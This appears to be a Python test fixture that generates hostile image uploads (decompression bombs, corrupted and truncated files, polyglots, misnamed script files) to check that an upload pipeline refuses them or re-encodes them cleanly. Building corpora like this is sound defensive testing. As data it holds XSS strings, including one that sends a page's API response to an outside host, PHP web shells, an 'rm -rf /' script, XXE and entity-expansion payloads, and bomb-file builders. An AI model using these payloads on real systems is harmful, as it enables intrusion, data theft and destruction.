"""A corpus of hostile image uploads, made at test time from a fixed seed (no binaries in the repository).

``corpus()`` returns more than a thousand ``Specimen``s in families:

- ``valid``: real JPEG (baseline, progressive, CMYK, greyscale, every EXIF orientation, GPS EXIF), PNG
  (RGB, RGBA, palette with transparency, 16-bit, 1-bit), WebP (lossy, lossless, alpha), GIF; and shapes at
  the limits (``IMAGE_MAX_ASPECT_RATIO`` exactly): each must be accepted and stored re-encoded;
- ``mutant``: those files with bytes flipped, inserted, deleted or repeated, in the header and the data;
- ``truncated``: those files cut short at many points;
- ``bomb``: tiny files whose headers claim a huge picture (PNG, JPEG, GIF, WebP lossy/lossless/extended,
  a PNG whose compressed pixels inflate to gigabytes);
- ``huge``: real pictures of absurd shape (100000x1, 1x60000, 20000x20) or too many pixels for WebP;
- ``polyglot``: valid images carrying HTML, JavaScript or PHP (after the image data, in a comment or text
  chunk) and GIF+ZIP ("GIFAR"): accepted only re-encoded, so nothing of the payload is stored;
- ``script``: SVG, HTML, JavaScript, PHP, XML entity bombs, PDF, ZIP, ELF, EPS (Pillow would run
  Ghostscript to decode it), BMP, TIFF, ICO, AVIF, PSD... named .jpg/.png/.webp/.gif;
- ``empty``: zero bytes and bare magic numbers;
- ``animated``: GIF, APNG and WebP with thousands (GIF) or hundreds of frames; accepted, first frame only.

Each specimen says what the site must do with it: ``accept``, ``refuse``, or ``either`` (a mutant may
still decode; then it must be stored re-encoded like any photo). ``sample(n, salt)`` draws a
deterministic subset that keeps every family, for the CI-short run.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image, ImageDraw

SEED = 20261207
ACCEPT, REFUSE, EITHER = "accept", "refuse", "either"
# What a polyglot carries; none of it may be in any stored file.
PAYLOADS = (
    b"<html><body><script>alert(document.cookie)</script></body></html>",
    b"<script>fetch('/api/me/').then(r=>r.text()).then(t=>location='//x/?'+t)</script>",
    b"<?php system($_GET['c']); ?>",
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
)
MARKERS = (b"<script", b"<?php", b"onload=", b"<html", b"Exploit.class", b"SecretCam")


@dataclass(frozen=True)
class Specimen:
    name: str  # the file name it is uploaded under
    family: str
    data: bytes
    expect: str  # ACCEPT, REFUSE or EITHER


def _picture(width: int, height: int, seed: int, mode: str = "RGB") -> Image.Image:
    """Shapes on a gradient: compresses like a photo, not like a flat colour."""
    rng = random.Random(seed)
    image = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    draw = ImageDraw.Draw(image)
    for _ in range(6):
        x, y = rng.randrange(width), rng.randrange(height)
        colour = (rng.randrange(256), rng.randrange(256), rng.randrange(256))
        draw.rectangle(
            [x, y, x + rng.randrange(4, width // 2 + 5), y + rng.randrange(4, height // 2 + 5)], colour
        )
    if mode == "RGBA":
        image.putalpha(Image.linear_gradient("L").resize((width, height)))
        return image
    return image.convert(mode)


def _encode(image: Image.Image, fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def _gps_exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"
    exif[0x8825] = {1: "N", 2: (31.0, 14.0, 2.5), 3: "E", 4: (121.0, 28.0, 1.0)}
    if orientation is not None:
        exif[0x0112] = orientation
    return exif


def _valid() -> list[Specimen]:
    out = []
    photo = _picture(96, 72, 1)

    def add(name: str, data: bytes, expect: str = ACCEPT) -> None:
        out.append(Specimen(name, "valid", data, expect))

    add("photo.jpg", _encode(photo, "JPEG", quality=88))
    add("progressive.jpg", _encode(photo, "JPEG", quality=80, progressive=True))
    add("gps.jpg", _encode(photo, "JPEG", exif=_gps_exif()))
    for orientation in range(1, 9):
        add(
            f"orient{orientation}.jpg",
            _encode(_picture(80, 48, orientation), "JPEG", exif=_gps_exif(orientation)),
        )
    add("cmyk.jpg", _encode(photo.convert("CMYK"), "JPEG"))
    add("grey.jpg", _encode(photo.convert("L"), "JPEG"))
    add("photo.png", _encode(photo, "PNG"))
    add("alpha.png", _encode(_picture(64, 64, 2, "RGBA"), "PNG"))
    palette = photo.convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
    add("palette.png", _encode(palette, "PNG", transparency=0))
    add("sixteen.png", _encode(Image.linear_gradient("L").resize((40, 30)).convert("I;16"), "PNG"))
    add("onebit.png", _encode(photo.convert("1"), "PNG"))
    add("grey-alpha.png", _encode(_picture(40, 40, 3, "RGBA").convert("LA"), "PNG"))
    add("photo.webp", _encode(photo, "WEBP", quality=80))
    add("lossless.webp", _encode(photo, "WEBP", lossless=True))
    add("alpha.webp", _encode(_picture(64, 64, 4, "RGBA"), "WEBP"))
    add("exif.webp", _encode(photo, "WEBP", exif=_gps_exif(6)))
    add("photo.gif", _encode(palette, "GIF"))
    add("tiny.png", _encode(Image.new("RGB", (1, 1), (9, 9, 9)), "PNG"))
    add("tall.png", _encode(_picture(10, 120, 5), "PNG"))  # 1:12, the longest shape taken
    add("wide.jpg", _encode(_picture(240, 20, 6), "JPEG"))
    add("misnamed.png", _encode(photo, "JPEG"))  # a JPEG named .png: judged by its bytes
    # Large enough to be reduced right after decoding (twice the detail width on both sides)
    add("large.png", _encode(_picture(2_700, 2_600, 11), "PNG", compress_level=1))
    add("large.jpg", _encode(_picture(3_000, 2_700, 12), "JPEG", quality=70))
    return out


def _bases() -> list[tuple[str, bytes]]:
    """The files the mutants and truncations start from."""
    photo = _picture(64, 48, 7)
    palette = photo.convert("P", palette=Image.Palette.ADAPTIVE, colors=32)
    return [
        ("jpg", _encode(photo, "JPEG", quality=85, exif=_gps_exif(6))),
        ("jpg", _encode(photo, "JPEG", quality=70, progressive=True)),
        ("png", _encode(photo, "PNG")),
        ("png", _encode(_picture(48, 48, 8, "RGBA"), "PNG")),
        ("webp", _encode(photo, "WEBP", quality=75)),
        ("webp", _encode(photo, "WEBP", lossless=True)),
        ("gif", _encode(palette, "GIF")),
        ("gif", animated_gif(12)),
    ]


def _mutants(rng: random.Random, per_base: int) -> list[Specimen]:
    out = []
    for b, (ext, base) in enumerate(_bases()):
        for m in range(per_base):
            data = bytearray(base)
            how = rng.choice(("flip", "flip", "flip", "header", "insert", "delete", "repeat", "zero"))
            if how in ("flip", "header"):
                top = min(len(data), 64) if how == "header" else len(data)
                for _ in range(rng.randint(1, 8)):
                    data[rng.randrange(top)] ^= 1 << rng.randrange(8)
            elif how == "insert":
                at = rng.randrange(len(data))
                data[at:at] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 64)))
            elif how == "delete":
                at = rng.randrange(12, len(data))
                del data[at : at + rng.randint(1, 64)]
            elif how == "repeat":
                at = rng.randrange(len(data))
                data[at:at] = data[at : at + rng.randint(16, 256)] * rng.randint(2, 40)
            else:
                at = rng.randrange(len(data))
                data[at : at + rng.randint(4, 128)] = bytes(min(128, len(data) - at))
            out.append(Specimen(f"mutant-{b}-{m:03d}-{how}.{ext}", "mutant", bytes(data), EITHER))
    return out


def _truncated(per_base: int) -> list[Specimen]:
    out = []
    for b, (ext, base) in enumerate(_bases()):
        for t in range(per_base):
            cut = max(1, len(base) * (t + 1) // (per_base + 1))
            out.append(Specimen(f"cut-{b}-{t:02d}.{ext}", "truncated", base[:cut], EITHER))
    return out


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_claiming(width: int, height: int, *, colour_type: int = 0, rows: int = 50) -> bytes:
    """A valid PNG header claiming ``width`` x ``height``, with only a few rows of compressed zeros."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, colour_type, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + min(width, 1 << 16))
    body = b"".join(compressor.compress(row) for _ in range(rows)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


def _jpeg_claiming(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header (SOF) is rewritten to claim ``width`` x ``height``."""
    data = bytearray(_encode(Image.new("RGB", (16, 16), (200, 10, 10)), "JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _gif_claiming(width: int, height: int) -> bytes:
    data = bytearray(_encode(Image.new("P", (4, 4), 0), "GIF"))
    data[6:10] = struct.pack("<HH", width, height)
    return bytes(data)


def webp_claiming(width: int, height: int, kind: str) -> bytes:
    """A WebP header claiming ``width`` x ``height`` (lossy, lossless or extended) over a tiny body."""
    small = _encode(Image.new("RGB", (4, 4), (0, 90, 0)), "WEBP", lossless=kind != "VP8 ")
    if kind == "VP8X":
        vp8x = struct.pack("<I", 0) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
        body = b"VP8X" + struct.pack("<I", 10) + vp8x + small[12:]
        return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body
    data = bytearray(small)
    if kind == "VP8L":
        bits = ((width - 1) & 0x3FFF) | (((height - 1) & 0x3FFF) << 14)
        old = int.from_bytes(data[21:25], "little")
        data[21:25] = (bits | (old & ~0xFFFFFFF & 0xFFFFFFFF)).to_bytes(4, "little")
    else:
        data[26:30] = struct.pack("<HH", width & 0x3FFF, height & 0x3FFF)
    return bytes(data)


def _zlib_bomb_png() -> bytes:
    """6000 x 6000 greyscale (36 MP, under the pixel limit) whose IDAT inflates from ~40 KB."""
    ihdr = struct.pack(">IIBBBBB", 6000, 6000, 8, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\x00" * 6001
    body = b"".join(compressor.compress(row) for _ in range(6000)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


def _bombs() -> list[Specimen]:
    out = []
    sizes = [(10_000, 10_000), (65_535, 65_535), (2**31 - 1, 2**31 - 1), (50_000, 50_000), (9_000, 9_000),
             (7_000, 6_000), (16_000, 2_600), (0, 10), (10, 0)]  # fmt: skip
    for w, h in sizes:
        for colour_type in (0, 2, 6):
            out.append(
                Specimen(
                    f"bomb-{w}x{h}-{colour_type}.png",
                    "bomb",
                    png_claiming(w, h, colour_type=colour_type),
                    REFUSE,
                )
            )
    for w, h in [(65_500, 65_500), (30_000, 30_000), (9_000, 9_000), (16_001, 16_001), (7_000, 6_000)]:
        out.append(Specimen(f"bomb-{w}x{h}.jpg", "bomb", _jpeg_claiming(w, h), REFUSE))
    for w, h in [(65_535, 65_535), (40_000, 40_000), (9_000, 9_000)]:
        out.append(Specimen(f"bomb-{w}x{h}.gif", "bomb", _gif_claiming(w, h), REFUSE))
    for kind in ("VP8 ", "VP8L", "VP8X"):
        for w, h in [(16_383, 16_383), (8_000, 8_000), (5_000, 4_000)]:
            name = f"bomb-{kind.strip()}-{w}x{h}.webp"
            out.append(Specimen(name, "bomb", webp_claiming(w, h, kind), REFUSE))
    out.append(Specimen("bomb-vp8x-16m.webp", "bomb", webp_claiming(2**24, 2**24, "VP8X"), REFUSE))
    # Under the pixel limit: decodes (and is refused as damaged for its missing rows, or accepted).
    out.append(Specimen("zlib-bomb.png", "bomb", _zlib_bomb_png(), EITHER))
    return out


def _huge() -> list[Specimen]:
    out = []

    def add(name: str, data: bytes) -> None:
        out.append(Specimen(name, "huge", data, REFUSE))

    add("strip-100000x1.png", _encode(Image.new("L", (100_000, 1), 0), "PNG"))
    add("strip-1x60000.png", _encode(Image.new("L", (1, 60_000), 0), "PNG"))
    add("strip-20000x20.gif", _encode(Image.new("P", (20_000, 20), 0), "GIF"))
    add("strip-13x1.png", _encode(Image.new("RGB", (13, 1), (1, 2, 3)), "PNG"))  # over 12:1
    add("strip-4000x300.jpg", _encode(Image.new("RGB", (4_000, 300), (9, 9, 9)), "JPEG"))
    add("side-16001x2000.png", png_claiming(16_001, 2_000, rows=2_000))
    add("webp-4000x3001.webp", webp_claiming(4_000, 3_001, "VP8L"))  # over IMAGE_WEBP_MAX_PIXELS
    for w, h in [(100_000, 1), (1, 100_000), (65_535, 2), (30_000, 100)]:
        add(f"claims-{w}x{h}.png", png_claiming(w, h, rows=1))
        add(f"claims-{w}x{h}.jpg", _jpeg_claiming(min(w, 65_535), min(h, 65_535)))
    return out


def _polyglots() -> list[Specimen]:
    out = []
    photo = _picture(48, 36, 9)
    jpeg, png, gif = _encode(photo, "JPEG"), _encode(photo, "PNG"), _encode(photo.convert("P"), "GIF")
    webp = _encode(photo, "WEBP")
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("Exploit.class", b"\xca\xfe\xba\xbe" + b"\x00" * 64)
        archive.writestr("index.html", PAYLOADS[0])
    for i, payload in enumerate(PAYLOADS):
        out.append(Specimen(f"tail-{i}.jpg", "polyglot", jpeg + payload, ACCEPT))
        out.append(Specimen(f"tail-{i}.png", "polyglot", png + payload, ACCEPT))
        out.append(Specimen(f"tail-{i}.gif", "polyglot", gif + payload, ACCEPT))
        out.append(Specimen(f"tail-{i}.webp", "polyglot", webp + payload, EITHER))
        out.append(Specimen(f"comment-{i}.jpg", "polyglot", _encode(photo, "JPEG", comment=payload), ACCEPT))
        out.append(
            Specimen(
                f"comment-{i}.gif", "polyglot", _encode(photo.convert("P"), "GIF", comment=payload), ACCEPT
            )
        )
        text = _png_chunk(b"tEXt", b"Comment\x00" + payload)
        out.append(Specimen(f"text-{i}.png", "polyglot", png[:33] + text + png[33:], ACCEPT))
        out.append(
            Specimen(
                f"gps-tail-{i}.jpg", "polyglot", _encode(photo, "JPEG", exif=_gps_exif()) + payload, ACCEPT
            )
        )
    out.append(Specimen("gifar.gif", "polyglot", gif + zipped.getvalue(), ACCEPT))
    out.append(Specimen("jpegzip.jpg", "polyglot", jpeg + zipped.getvalue(), ACCEPT))
    # Starts like a GIF, is JavaScript: GIF89a=1;alert(1)
    out.append(
        Specimen("gifjs.gif", "polyglot", b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(1);//", REFUSE)
    )
    out.append(Specimen("jpeg-html-head.jpg", "polyglot", b"\xff\xd8\xff\xe0" + PAYLOADS[0], REFUSE))
    return out


def _scripts() -> list[Specimen]:
    documents = {
        "svg": b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>",
        "html": PAYLOADS[0],
        "js": b"alert(document.domain);\n" * 10,
        "php": b"<?php echo shell_exec($_GET['c']); ?>",
        "sh": b"#!/bin/sh\nrm -rf / --no-preserve-root\n",
        "xxe": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg>&a;</svg>",
        "lol": b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>"
        b"<!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]><svg>&c;</svg>",
        "pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n(/etc/passwd) (r) file pop\nshowpage\n%%EOF\n",
        "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 120,
        "utf16": "<script>alert(1)</script>".encode("utf-16"),
        "text": b"just some text, not a picture\n" * 30,
        "json": b'{"image": "data:image/png;base64,AAAA"}',
        "dataurl": b"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
    }
    photo = _picture(32, 32, 10)
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("a.txt", b"hello")
    pictures = {
        "bmp": _encode(photo, "BMP"),
        "tiff": _encode(photo, "TIFF"),
        "ico": _encode(photo, "ICO"),
        "avif": _encode(photo, "AVIF"),
        "ppm": _encode(photo, "PPM"),
        "pcx": _encode(photo, "PCX"),
        "tga": _encode(photo, "TGA"),
        "zip": zipped.getvalue(),
    }
    out = []
    for kind, data in [*documents.items(), *pictures.items()]:
        for ext in ("jpg", "png", "webp", "gif"):
            out.append(Specimen(f"{kind}-as.{ext}", "script", data, REFUSE))
    return out


def _empty() -> list[Specimen]:
    magics = [b"", b"\x00", b"\xff\xd8", b"\xff\xd8\xff", b"\xff\xd8\xff\xd9", b"\x89PNG\r\n\x1a\n", b"GIF89a",
              b"GIF87a\x01\x00\x01\x00", b"RIFF\x00\x00\x00\x00WEBP", b"RIFF\x1a\x00\x00\x00WEBPVP8X",
              b"\x00" * 4096, b"\xff" * 4096]  # fmt: skip
    return [
        Specimen(f"empty-{i}.{ext}", "empty", data, REFUSE)
        for i, data in enumerate(magics)
        for ext in ("jpg", "png")
    ]


def animated_gif(frames: int, size: tuple[int, int] = (8, 8)) -> bytes:
    """A looping GIF of ``frames`` frames, assembled from one encoded frame (fast for thousands)."""
    one = _encode(Image.new("P", size, 1), "GIF")
    head, frame = b"GIF89a" + one[6:19], one[19:-1]
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    control = b"\x21\xf9\x04\x04\x02\x00\x00\x00"
    return head + loop + (control + frame) * frames + b"\x3b"


def _animated() -> list[Specimen]:
    frames = [Image.new("RGB", (8, 8), (i % 256, 40, 90)) for i in range(300)]
    out = [
        Specimen("frames-2000.gif", "animated", animated_gif(2_000), ACCEPT),
        Specimen("frames-5000.gif", "animated", animated_gif(5_000), ACCEPT),
        Specimen("frames-1000-big.gif", "animated", animated_gif(1_000, (64, 48)), ACCEPT),
        Specimen("frames-20000.gif", "animated", animated_gif(20_000, (2, 2)), ACCEPT),
        Specimen("frames-300.png", "animated", _encode(frames[0], "PNG", save_all=True, append_images=frames[1:]), ACCEPT),
        Specimen("frames-300.webp", "animated", _encode(frames[0], "WEBP", save_all=True, append_images=frames[1:], lossless=True), ACCEPT),
        Specimen("frames-huge.gif", "animated", _gif_claiming(65_535, 65_535)[:-1] + animated_gif(50)[19:], REFUSE),
    ]  # fmt: skip
    return out


@functools.cache
def corpus() -> tuple[Specimen, ...]:
    """Every specimen, in a fixed order (the same bytes on every run)."""
    rng = random.Random(SEED)
    specimens = [
        *_valid(),
        *_mutants(rng, per_base=90),
        *_truncated(per_base=24),
        *_bombs(),
        *_huge(),
        *_polyglots(),
        *_scripts(),
        *_empty(),
        *_animated(),
    ]
    names = [s.name for s in specimens]
    assert len(set(names)) == len(names), "specimen names must be unique"
    return tuple(specimens)


def sample(size: int, salt: str) -> list[Specimen]:
    """A deterministic subset of about ``size`` specimens (different per ``salt``, e.g. the entry point)
    that keeps every family: every valid file, up to 8 of each other small family (bomb, huge, polyglot,
    script, empty, animated), the rest of ``size`` shared by the mutants and truncations in proportion."""
    families: dict[str, list[Specimen]] = {}
    for specimen in corpus():
        families.setdefault(specimen.family, []).append(specimen)
    rng = random.Random(f"{SEED}:{salt}")
    bulk = ("mutant", "truncated")
    chosen = []
    for family, members in families.items():
        if family == "valid":
            chosen += members
        elif family not in bulk:
            chosen += rng.sample(members, min(8, len(members)))
    rest = max(0, size - len(chosen))
    bulk_total = sum(len(families[f]) for f in bulk)
    for family in bulk:
        members = families[family]
        chosen += rng.sample(members, min(len(members), round(rest * len(members) / bulk_total)))
    return chosen


# --- what the tests check -----------------------------------------------------------------------------

# Words of core.images' refusals (and the form's own): every refusal must say one of these.
REFUSAL_WORDS = (
    "not an image we can read",
    "damaged and cannot be read",
    "megapixels",
    "pixels long",
    "too long and thin",
    "Upload a JPEG, PNG, WebP or GIF image",
    "The file is empty",
    "The submitted file is empty",
    "processing many photos",
)


def refusal_said(text: str) -> str | None:
    """The refusal words found in a page or JSON body, or None."""
    return next((words for words in REFUSAL_WORDS if words in text), None)


def reencoded_problems(data: bytes, name: str) -> list[str]:
    """Why a stored file is not a clean re-encoding (empty list: it is): a WebP made of pixels only, with
    nothing after its RIFF body, no EXIF, none of a polyglot's payload, under a random name."""
    problems = []
    base = name.rsplit("/", 1)[-1]
    if not (len(base) == 37 and base.endswith(".webp") and all(c in "0123456789abcdef" for c in base[:32])):
        problems.append(f"name {name!r} is not a random hex name")
    if data[:4] != b"RIFF" or data[8:12] != b"WEBP":
        problems.append("not a WebP")
    elif struct.unpack("<I", data[4:8])[0] + 8 != len(data):
        problems.append("bytes after the WebP data")
    problems += [f"carries {marker!r}" for marker in MARKERS if marker in data]
    try:
        with Image.open(io.BytesIO(data)) as image:
            if "exif" in image.info or len(image.getexif()):
                problems.append("has EXIF")
            if image.format != "WEBP":
                problems.append(f"is {image.format}")
    except Exception as exc:  # noqa: BLE001 - any failure to read back is the finding
        problems.append(f"does not read back: {exc!r}")
    return problems


class DecodeSpy:
    """Records the pixel count of every picture Pillow decodes (``ImageFile.load``, at the scale actually
    decoded) or allocates a WebP canvas for, while installed with ``install(monkeypatch)``."""

    def __init__(self) -> None:
        self.pixels: list[int] = []

    def install(self, monkeypatch) -> DecodeSpy:
        from PIL import ImageFile, WebPImagePlugin

        load, anim = ImageFile.ImageFile.load, WebPImagePlugin._webp.WebPAnimDecoder
        spy = self

        def spied_load(image):
            spy.pixels.append(image.size[0] * image.size[1])
            return load(image)

        def spied_anim(data):
            decoder = anim(data)
            width, height = decoder.get_info()[0]
            spy.pixels.append(width * height)
            return decoder

        monkeypatch.setattr(ImageFile.ImageFile, "load", spied_load)
        monkeypatch.setattr(WebPImagePlugin._webp, "WebPAnimDecoder", spied_anim)
        return self

    @property
    def largest(self) -> int:
        return max(self.pixels, default=0)
